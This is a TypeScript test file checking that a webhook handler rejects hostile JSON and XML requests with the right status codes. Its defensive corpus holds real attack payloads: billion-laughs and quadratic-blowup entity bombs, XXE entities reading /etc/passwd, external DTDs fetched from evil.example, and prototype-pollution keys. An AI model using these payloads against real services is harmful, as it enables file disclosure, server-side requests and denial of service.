import { afterAll, describe, expect, test, vi } from "vitest";
import { createWebhookHandler } from "../src/index.js";
import { DEFAULT_MAX_BYTES } from "../src/internal/decode-body.js";
import { xmlParser } from "../src/xml.js";
import {
  endlessBody,
  escapeXml,
  statusPayload,
  TOKEN,
  toXml,
  webhookRequest,
} from "./helpers/requests.js";

/** One hostile request, the status the handler must answer, and whether a callback may run. */
interface HostileCase {
  name: string;
  request: () => Request;
  status: 200 | 400 | 401 | 405 | 413 | 415;
}

const json =
  (body: string, headers: Record<string, string> = {}) =>
  () =>
    webhookRequest(body, { headers });
const xml =
  (body: string, headers: Record<string, string> = {}) =>
  () =>
    webhookRequest(body, { contentType: "application/xml", headers });
const bytes =
  (body: Uint8Array<ArrayBuffer>, contentType = "application/json") =>
  () =>
    webhookRequest(body, { contentType });
const valid = JSON.stringify(statusPayload());
const validXml = toXml(statusPayload());
/** A valid JSON webhook with `extra` spliced in before its closing brace. */
const withJson = (extra: string) => `${valid.slice(0, -1)},${extra}}`;
/** A valid XML webhook with `extra` spliced in before its closing root tag. */
const withXml = (extra: string) => validXml.replace("</Webhook>", `${extra}</Webhook>`);
/** `withJson`, `withXml` and a JSON webhook of `statusPayload(fields)`, each as a request. */
const jsonWith = (extra: string, headers?: Record<string, string>) =>
  json(withJson(extra), headers);
const xmlWith = (extra: string) => xml(withXml(extra));
const payload = (fields?: Parameters<typeof statusPayload>[0], headers?: Record<string, string>) =>
  json(JSON.stringify(statusPayload(fields)), headers);
const utf8 = (text: string) => new TextEncoder().encode(text);

const laughs = [
  '<?xml version="1.0"?>',
  "<!DOCTYPE lolz [",
  ' <!ENTITY lol "lol">',
  ...Array.from(
    { length: 8 },
    (_, i) => ` <!ENTITY lol${i + 2} "${`&lol${i || ""};`.repeat(10)}">`,
  ),
  "]>",
  `<Webhook><Type>SMS</Type><APIKey>${TOKEN}</APIKey><Message>&lol9;</Message></Webhook>`,
].join("\n");

const tenMegabytes = new Uint8Array(10 * 1024 * 1024).fill(0x20);

/** The size of the pieces a metered body hands out, one per read. */
const CHUNK = 16 * 1024;

/**
 * The same request with its body handed out in {@link CHUNK}-byte pieces only when the handler
 * reads, counting the bytes it took.
 */
function metered(request: Request): { request: Request; read: () => number } {
  const source = request.body;
  if (!source) return { request, read: () => 0 };
  const reader = source.getReader();
  let pending = new Uint8Array(0);
  let read = 0;
  const body = new ReadableStream<Uint8Array>(
    {
      async pull(controller) {
        if (pending.length === 0) {
          const next = await reader.read();
          if (next.done) return controller.close();
          pending = new Uint8Array(next.value);
        }
        const piece = pending.subarray(0, CHUNK);
        pending = pending.subarray(CHUNK);
        read += piece.length;
        controller.enqueue(piece);
      },
      cancel: (reason) => reader.cancel(reason),
    },
    { highWaterMark: 0 }, // pull only on demand, so the count is what the handler asked for
  );
  const init = { method: request.method, headers: request.headers, body, duplex: "half" };
  return { request: new Request(request.url, init as RequestInit), read: () => read };
}

const cases: HostileCase[] = [
  // Entity expansion and external entities: refused before any parser sees them.
  { name: "billion laughs", request: xml(laughs), status: 400 },
  {
    name: "quadratic blowup",
    request: xml(
      `<!DOCTYPE w [<!ENTITY a "${"a".repeat(50_000)}">]><Webhook><M>${"&a;".repeat(50)}</M></Webhook>`,
    ),
    status: 400,
  },
  {
    name: "external entity (SYSTEM)",
    request: xml(
      `<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${withXml("<M>&xxe;</M>")}`,
    ),
    status: 400,
  },
  {
    name: "external DTD (PUBLIC)",
    request: xml(
      `<!DOCTYPE Webhook PUBLIC "-//X//EN" "http://evil.example/x.dtd">${validXml.slice(38)}`,
    ),
    status: 400,
  },
  {
    name: "parameter entities",
    request: xml(
      `<!DOCTYPE w [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${validXml.slice(38)}`,
    ),
    status: 400,
  },
  { name: "lower-case doctype", request: xml(`<!doctype w>${validXml.slice(38)}`), status: 400 },
  { name: "ENTITY without DOCTYPE", request: xmlWith('<!ENTITY x "y">'), status: 400 },
  { name: "undeclared entity", request: xmlWith("<M>&xxe;</M>"), status: 400 },
  { name: "HTML entity", request: xmlWith("<M>&nbsp;</M>"), status: 400 },
  {
    name: "XInclude",
    request: xml(
      withXml(
        '<M><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></M>',
      ),
    ),
    status: 400,
  },
  // Depth and breadth.
  { name: "XML nested 3 deep", request: xmlWith("<M><b>x</b></M>"), status: 400 },
  {
    name: "XML nested 500 deep",
    request: xmlWith(`${"<a>".repeat(500)}${"</a>".repeat(500)}`),
    status: 400,
  },
  {
    name: "XML nested 30,000 deep",
    request: xml(`${"<a>".repeat(30_000)}${"</a>".repeat(30_000)}`),
    status: 400,
  },
  { name: "XML with 30,000 fields", request: xmlWith("<A>1</A>".repeat(30_000)), status: 400 },
  {
    name: "XML processing-instruction flood",
    request: xml(`${"<?x?>".repeat(50_000)}${validXml.slice(38)}`),
    status: 400,
  },
  {
    name: "XML attribute flood",
    request: xml(
      validXml.replace(
        "<Webhook>",
        `<Webhook ${Array.from({ length: 20_000 }, (_, i) => `a${i}="1"`).join(" ")}>`,
      ),
    ),
    status: 400,
  },
  {
    name: "JSON nested 100,000 deep in a field",
    request: jsonWith(`"X":${"[".repeat(100_000)}${"]".repeat(100_000)}`),
    status: 400,
  },
  {
    name: "JSON nested 100,000 deep at the root",
    request: json(`${"[".repeat(100_000)}${"]".repeat(100_000)}`),
    status: 400,
  },
  {
    name: "JSON with 10,000 unknown fields",
    request: jsonWith(Array.from({ length: 10_000 }, (_, i) => `"f${i}":"${i}"`).join(",")),
    status: 200,
  },
  // Size.
  {
    name: "10 MB body with Content-Length",
    request: () =>
      webhookRequest(tenMegabytes, { headers: { "content-length": String(tenMegabytes.length) } }),
    status: 413,
  },
  { name: "10 MB body, length not declared", request: bytes(tenMegabytes), status: 413 },
  {
    name: "endless stream",
    request: () => webhookRequest(endlessBody(64 * 1024, 512 * 1024).stream),
    status: 413,
  },
  {
    name: "one byte over 256 KiB",
    request: bytes(utf8(withJson(`"Pad":"${"x".repeat(256 * 1024 - valid.length - 8)}"`))),
    status: 413,
  },
  { name: "200 KB message", request: jsonWith(`"Message":"${"x".repeat(200_000)}"`), status: 200 },
  { name: "200 KB XML message", request: xmlWith(`<M>${"x".repeat(200_000)}</M>`), status: 200 },
  // Malformed and truncated.
  { name: "truncated JSON", request: json(valid.slice(0, valid.length / 2)), status: 400 },
  { name: "truncated XML", request: xml(validXml.slice(0, validXml.length / 2)), status: 400 },
  { name: "empty body", request: json(""), status: 400 },
  { name: "whitespace body", request: json(" \r\n\t"), status: 400 },
  { name: "JSON with a trailing comma", request: json(`${valid.slice(0, -1)},}`), status: 400 },
  { name: "JSON with comments", request: json(`/* c */${valid}`), status: 400 },
  { name: "two JSON documents", request: json(`${valid}${valid}`), status: 400 },
  { name: "two XML roots", request: xml(`${validXml}<Webhook/>`), status: 400 },
  { name: "mismatched XML tags", request: xmlWith("<A>x</B>"), status: 400 },
  // Encodings.
  {
    name: "invalid UTF-8",
    request: bytes(new Uint8Array([...utf8(valid.slice(0, -2)), 0xc3, 0x28, 0x22, 0x7d])),
    status: 400,
  },
  {
    name: "overlong UTF-8",
    request: bytes(
      new Uint8Array([...utf8(valid.slice(0, 20)), 0xc0, 0xaf, ...utf8(valid.slice(20))]),
    ),
    status: 400,
  },
  {
    name: "UTF-8 surrogate",
    request: bytes(
      new Uint8Array([...utf8(valid.slice(0, 20)), 0xed, 0xa0, 0x80, ...utf8(valid.slice(20))]),
    ),
    status: 400,
  },
  {
    name: "UTF-16 with BOM",
    request: bytes(
      new Uint8Array([0xff, 0xfe, ...[...valid].flatMap((c) => [c.charCodeAt(0), 0])]),
    ),
    status: 400,
  },
  {
    name: "UTF-8 BOM then JSON",
    request: bytes(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(valid)])),
    status: 200,
  },
  {
    name: "UTF-8 BOM then XML",
    request: bytes(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(validXml)]), "text/xml"),
    status: 200,
  },
  {
    name: "two BOMs",
    request: bytes(new Uint8Array([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf, ...utf8(valid)])),
    status: 400,
  },
  {
    name: "NUL and lone surrogate escapes in a string",
    request: jsonWith('"Message":"\\u0000\\ud800"'),
    status: 200,
  },
  { name: "XML reference to NUL", request: xmlWith("<M>&#0;</M>"), status: 400 },
  { name: "XML reference past Unicode", request: xmlWith("<M>&#x110000;</M>"), status: 400 },
  // Prototype pollution.
  { name: "__proto__ key", request: jsonWith('"__proto__":{"polluted":"yes"}'), status: 400 },
  { name: "__proto__ key, string value", request: jsonWith('"__proto__":"polluted"'), status: 200 },
  {
    name: "constructor.prototype key",
    request: jsonWith('"constructor":{"prototype":{"polluted":"yes"}}'),
    status: 400,
  },
  { name: "prototype key, string value", request: jsonWith('"prototype":"polluted"'), status: 200 },
  { name: "__proto__ element", request: xmlWith("<__proto__>polluted</__proto__>"), status: 200 },
  {
    name: "constructor element",
    request: xmlWith("<constructor><prototype>x</prototype></constructor>"),
    status: 400,
  },
  // Wrong shapes and types.
  { name: "array at the root", request: json(`[${valid}]`), status: 400 },
  { name: "string at the root", request: json('"SMS"'), status: 400 },
  { name: "number at the root", request: json("42"), status: 400 },
  { name: "huge number", request: jsonWith('"Price":1e999'), status: 400 },
  {
    name: "integer past 2^53",
    request: jsonWith('"ReceivedID":123456789012345678901234567890'),
    status: 400,
  },
  { name: "object in a field", request: jsonWith('"Message":{"text":"hi"}'), status: 400 },
  { name: "Type as an array", request: payload({ Type: ["SMS"] }), status: 400 },
  { name: "no Type", request: payload({ Type: undefined }), status: 400 },
  { name: "unknown Type", request: payload({ Type: "Email" }), status: 400 },
  { name: 'Type "constructor"', request: payload({ Type: "constructor" }), status: 400 },
  { name: 'Type "__proto__"', request: payload({ Type: "__proto__" }), status: 400 },
  { name: 'Type "hasOwnProperty"', request: payload({ Type: "hasOwnProperty" }), status: 400 },
  { name: "repeated XML Type", request: xmlWith("<Type>SMSReply</Type>"), status: 400 },
  { name: "repeated JSON Type, last one unknown", request: jsonWith('"Type":"Evil"'), status: 400 },
  // CDATA tricks.
  {
    name: "DOCTYPE inside CDATA",
    request: xmlWith("<M><![CDATA[<!DOCTYPE x>]]></M>"),
    status: 400,
  },
  {
    name: "markup smuggled in CDATA",
    request: xmlWith("<M><![CDATA[</M><Type>SMSReply</Type>]]></M>"),
    status: 200,
  },
  {
    name: "CDATA split around ]]>",
    request: xmlWith("<M><![CDATA[]]]]><![CDATA[>]]></M>"),
    status: 200,
  },
  { name: "unclosed CDATA", request: xmlWith("<M><![CDATA[x</M>"), status: 400 },
  { name: "CDATA flood, unclosed", request: xmlWith("<![CDATA[".repeat(20_000)), status: 400 },
  // Tokens.
  {
    name: "wrong token in the header",
    request: json(valid, { authorization: "Basic wrong" }),
    status: 401,
  },
  { name: "wrong token in the body", request: payload({ APIKey: "wrong" }), status: 401 },
  { name: "no token", request: payload({ APIKey: undefined }), status: 401 },
  {
    name: "token in X-Sender",
    request: payload({ APIKey: undefined }, { "x-sender": TOKEN }),
    status: 401,
  },
  {
    name: "token in an unknown field",
    request: payload({ APIKey: undefined, Token: TOKEN }),
    status: 401,
  },
  {
    name: "token in a nested field",
    request: json(withJson(`"Auth":{"APIKey":"${TOKEN}"}`).replace(`"APIKey":"${TOKEN}",`, "")),
    status: 400,
  },
  {
    name: "token as base64 user:password",
    request: json(valid, { authorization: `Basic ${btoa(`bestsms:${TOKEN}`)}` }),
    status: 401,
  },
  {
    name: "100 KB Authorization header",
    request: json(valid, { authorization: "x".repeat(100_000) }),
    status: 401,
  },
  {
    name: "right body token, wrong header token",
    request: json(valid, { authorization: `Bearer ${TOKEN}x` }),
    status: 401,
  },
  {
    name: "escaped token",
    request: json(JSON.stringify(statusPayload({ APIKey: escapeXml(`${TOKEN}&`) }))),
    status: 401,
  },
  // Method and content type.
  { name: "GET", request: () => webhookRequest(null, { method: "GET" }), status: 405 },
  {
    name: "text/plain",
    request: () => webhookRequest(valid, { contentType: "text/plain" }),
    status: 415,
  },
  {
    name: "form encoding",
    request: () => webhookRequest(valid, { contentType: "application/x-www-form-urlencoded" }),
    status: 415,
  },
  {
    name: "JSON declared as Latin-1",
    request: () => webhookRequest(valid, { contentType: "application/json; charset=iso-8859-1" }),
    status: 415,
  },
];

describe("hostile inputs through the handler", () => {
  const callback = vi.fn();
  const handler = createWebhookHandler({
    token: TOKEN,
    xml: xmlParser,
    onStatus: callback,
    onReceived: callback,
  });
  const prototypeBefore = Object.getOwnPropertyNames(Object.prototype).map((name) => [
    name,
    Object.getOwnPropertyDescriptor(Object.prototype, name),
  ]);

  afterAll(() => {
    const prototypeAfter = Object.getOwnPropertyNames(Object.prototype).map((name) => [
      name,
      Object.getOwnPropertyDescriptor(Object.prototype, name),
    ]);
    expect(prototypeAfter).toEqual(prototypeBefore);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  });

  test("the corpus is big enough", () => {
    expect(cases.length).toBeGreaterThanOrEqual(40);
    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
  });

  test.each(cases.map((c) => [c.name, c] as const))("%s", async (_name, { request, status }) => {
    callback.mockClear();
    const { request: built, read } = metered(request());
    const response = await handler(built);
    expect(response.status).toBe(status);
    expect(callback).toHaveBeenCalledTimes(status === 200 ? 1 : 0);
    // The work a case costs is bounded by what the handler reads: never more than the limit and
    // the chunk that crosses it, and nothing at all when the headers alone refuse the request.
    expect(read()).toBeLessThanOrEqual(DEFAULT_MAX_BYTES + CHUNK);
    if (status === 405 || status === 415) expect(read()).toBe(0);
    const text = await response.text();
    expect(text.length).toBeLessThan(60);
    expect(text).not.toContain(TOKEN);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
